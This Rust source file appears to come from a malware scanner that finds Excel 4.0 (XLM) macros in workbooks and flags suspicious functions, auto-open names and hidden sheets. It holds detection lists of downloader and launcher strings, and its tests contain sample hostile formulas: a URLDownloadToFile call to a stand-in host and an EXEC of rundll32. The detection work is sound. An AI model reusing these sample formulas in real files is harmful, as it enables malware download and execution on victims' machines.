//! What one workbook showed about XLM, gathered by the format readers and turned into findings
//! the same way for BIFF, OOXML, XLSB and SYLK.

use crate::findings;
use fumidai_core::Scan;

/// Functions whose use in a macro sheet means code execution, native calls or file dropping.
const SUSPICIOUS_FUNCTIONS: &[&str] = &[
    "EXEC",
    "CALL",
    "REGISTER",
    "REGISTER.ID",
    "FOPEN",
    "FWRITE",
    "FWRITELN",
    "EXECUTE",
    "INITIATE",
    "SEND.KEYS",
];

/// Lower-case markers of downloaders and living-off-the-land launchers in macro-sheet strings.
const SUSPICIOUS_STRINGS: &[&str] = &[
    "http://",
    "https://",
    "ftp://",
    "\\\\",
    "urlmon",
    "urldownloadtofile",
    "kernel32",
    "createthread",
    "virtualalloc",
    "rtlmovememory",
    "writeprocessmemory",
    "shell32",
    "shellexecute",
    "wininet",
    "internetopen",
    "powershell",
    "mshta",
    "rundll32",
    "regsvr32",
    "cmd.exe",
    "cmd /c",
    "wscript",
    "cscript",
    "certutil",
    "bitsadmin",
    "msiexec",
];

const MAX_LISTED: usize = 12;
const MAX_SNIPPET: usize = 80;

/// Visibility of a sheet, as BOUNDSHEET, BrtBundleSh and `<sheet state>` give it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Visibility {
    Visible,
    Hidden,
    VeryHidden,
}

impl Visibility {
    pub(crate) fn from_state(state: u32) -> Self {
        match state & 0x03 {
            0 => Visibility::Visible,
            1 => Visibility::Hidden,
            _ => Visibility::VeryHidden,
        }
    }

    fn label(self) -> &'static str {
        match self {
            Visibility::Visible => "visible",
            Visibility::Hidden => "hidden",
            Visibility::VeryHidden => "very hidden",
        }
    }
}

/// A macro sheet found in the workbook.
#[derive(Debug, Clone)]
pub(crate) struct MacroSheet {
    pub name: String,
    pub visibility: Visibility,
}

/// Everything one workbook showed; `report` turns it into findings.
#[derive(Debug, Default)]
pub(crate) struct Evidence {
    pub macro_sheets: Vec<MacroSheet>,
    /// Where a macro sheet was seen without a name (content type, part name, substream BOF).
    pub macro_markers: Vec<String>,
    /// Auto_Open names (built-in or user-defined), as evidence strings.
    pub auto_open: Vec<String>,
    /// Function names called from macro-sheet formulas (upper case).
    pub functions: Vec<String>,
    /// Suspicious strings met in macro-sheet formulas and cells.
    pub strings: Vec<String>,
    /// Formulas seen in macro sheets.
    pub formulas: u32,
}

impl Evidence {
    pub(crate) fn has_macro(&self) -> bool {
        !self.macro_sheets.is_empty() || !self.macro_markers.is_empty()
    }

    pub(crate) fn add_sheet(&mut self, name: String, visibility: Visibility) {
        if self.macro_sheets.len() < 256 {
            self.macro_sheets.push(MacroSheet {
                name: clean(&name),
                visibility,
            });
        }
    }

    pub(crate) fn add_marker(&mut self, marker: impl Into<String>) {
        let m = marker.into();
        if self.macro_markers.len() < 64 && !self.macro_markers.contains(&m) {
            self.macro_markers.push(m);
        }
    }

    pub(crate) fn add_auto_open(&mut self, what: String) {
        if self.auto_open.len() < 16 && !self.auto_open.contains(&what) {
            self.auto_open.push(what);
        }
    }

    pub(crate) fn add_function(&mut self, name: &str) {
        if self.functions.len() < 256 && !self.functions.iter().any(|f| f == name) {
            self.functions.push(name.to_owned());
        }
    }

    /// Records the suspicious markers a macro-sheet string holds.
    pub(crate) fn add_string(&mut self, s: &str) {
        if s.len() < 4 || self.strings.len() >= 64 {
            return;
        }
        let lower = s.to_ascii_lowercase();
        if let Some(hit) = SUSPICIOUS_STRINGS.iter().find(|k| lower.contains(**k)) {
            let shown = if hit.contains("://") || *hit == "\\\\" {
                clean(s)
            } else {
                (*hit).to_owned()
            };
            if !self.strings.contains(&shown) {
                self.strings.push(shown);
            }
        }
    }

    /// Scans formula text (OOXML `<f>`, SYLK `E...`): function calls and string literals.
    pub(crate) fn add_formula_text(&mut self, formula: &str) {
        self.formulas = self.formulas.saturating_add(1);
        let bytes = formula.as_bytes();
        let mut i = 0;
        let mut word_start: Option<usize> = None;
        while let Some(&b) = bytes.get(i) {
            if b == b'"' {
                // String literal with "" escapes.
                let start = i + 1;
                let mut j = start;
                let mut lit = String::new();
                loop {
                    match bytes.get(j) {
                        None => break,
                        Some(b'"') if bytes.get(j + 1) == Some(&b'"') => {
                            lit.push('"');
                            j += 2;
                        }
                        Some(b'"') => break,
                        Some(_) => {
                            let ch_end = next_char_boundary(formula, j);
                            lit.push_str(formula.get(j..ch_end).unwrap_or(""));
                            j = ch_end;
                        }
                    }
                }
                self.add_string(&lit);
                i = j + 1;
                word_start = None;
                continue;
            }
            if b.is_ascii_alphanumeric() || b == b'_' || b == b'.' {
                if word_start.is_none() {
                    word_start = Some(i);
                }
            } else {
                if b == b'(' {
                    if let Some(ws) = word_start {
                        if let Some(name) = formula.get(ws..i) {
                            let upper = name.to_ascii_uppercase();
                            // Drop the future-function prefixes OOXML writes.
                            let upper = upper
                                .trim_start_matches("_XLFN.")
                                .trim_start_matches("_XLWS.");
                            if upper
                                .bytes()
                                .next()
                                .is_some_and(|c| c.is_ascii_alphabetic())
                            {
                                self.add_function(upper);
                            }
                        }
                    }
                }
                word_start = None;
            }
            i += 1;
        }
    }

    /// Records the findings; returns whether XLM was found.
    pub(crate) fn report(&self, scan: &mut Scan<'_>, part: &str) -> bool {
        if !self.has_macro() {
            return false;
        }
        let mut detail = String::new();
        if self.macro_sheets.is_empty() {
            detail.push_str(&format!("macro sheet part: {}", list(&self.macro_markers)));
        } else {
            let sheets: Vec<String> = self
                .macro_sheets
                .iter()
                .map(|s| format!("'{}' ({})", s.name, s.visibility.label()))
                .collect();
            detail.push_str(&format!("macro sheet {}", list(&sheets)));
        }
        if self.formulas > 0 {
            detail.push_str(&format!("; {} formulas", self.formulas));
        }
        if !self.functions.is_empty() {
            detail.push_str(&format!("; functions: {}", list(&self.functions)));
        }
        scan.add(&findings::XLM_MACRO, part, detail);

        if !self.auto_open.is_empty() {
            scan.add(&findings::XLM_AUTO_OPEN, part, list(&self.auto_open));
        }

        let bad: Vec<String> = self
            .functions
            .iter()
            .filter(|f| SUSPICIOUS_FUNCTIONS.contains(&f.as_str()))
            .cloned()
            .collect();
        if !bad.is_empty() || !self.strings.is_empty() {
            let mut d = String::new();
            if !bad.is_empty() {
                d.push_str(&format!("calls {}", list(&bad)));
            }
            if !self.strings.is_empty() {
                if !d.is_empty() {
                    d.push_str("; ");
                }
                d.push_str(&format!("strings: {}", list(&self.strings)));
            }
            scan.add(&findings::XLM_SUSPICIOUS_CALL, part, d);
        }

        let hidden: Vec<String> = self
            .macro_sheets
            .iter()
            .filter(|s| s.visibility != Visibility::Visible)
            .map(|s| format!("'{}' is {}", s.name, s.visibility.label()))
            .collect();
        if !hidden.is_empty() {
            scan.add(&findings::XLM_HIDDEN_SHEET, part, list(&hidden));
        }
        true
    }
}

/// Whether a defined name makes Excel run its macro on open (`Auto_Open`, `Auto_Open2`, `auto_openXYZ`).
pub(crate) fn is_auto_open_name(name: &str) -> bool {
    let n = name
        .trim_start_matches("_xlnm.")
        .trim_start_matches("_XLNM.");
    n.get(..8)
        .is_some_and(|p| p.eq_ignore_ascii_case("auto_ope"))
}

fn next_char_boundary(s: &str, i: usize) -> usize {
    let mut j = i + 1;
    while j < s.len() && !s.is_char_boundary(j) {
        j += 1;
    }
    j
}

/// Printable, short form of hostile text for a detail.
pub(crate) fn clean(s: &str) -> String {
    let mut out: String = s
        .chars()
        .filter(|c| !c.is_control())
        .take(MAX_SNIPPET)
        .collect();
    if s.chars().count() > MAX_SNIPPET {
        out.push('…');
    }
    out
}

fn list(items: &[String]) -> String {
    let mut out = items
        .iter()
        .take(MAX_LISTED)
        .cloned()
        .collect::<Vec<_>>()
        .join(", ");
    if items.len() > MAX_LISTED {
        out.push_str(&format!(" and {} more", items.len() - MAX_LISTED));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_text_yields_functions_and_strings() {
        let mut e = Evidence::default();
        e.add_formula_text(
            r#"=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x.example/a ""b""",C:\a,0)"#,
        );
        e.add_formula_text("=EXEC(\"rundll32 a.dll,b\")+_xlfn.SUM(1)");
        assert_eq!(e.functions, vec!["CALL", "EXEC", "SUM"]);
        assert!(e.strings.contains(&"urlmon".to_owned()));
        assert!(e.strings.contains(&"urldownloadtofile".to_owned()));
        assert!(e
            .strings
            .iter()
            .any(|s| s.starts_with("http://x.example/a \"b\"")));
        assert!(e.strings.contains(&"rundll32".to_owned()));
    }

    #[test]
    fn auto_open_names() {
        assert!(is_auto_open_name("Auto_Open"));
        assert!(is_auto_open_name("_xlnm.Auto_Open"));
        assert!(is_auto_open_name("auto_open21"));
        assert!(!is_auto_open_name("Auto_Close"));
        assert!(!is_auto_open_name("Auto"));
    }
}
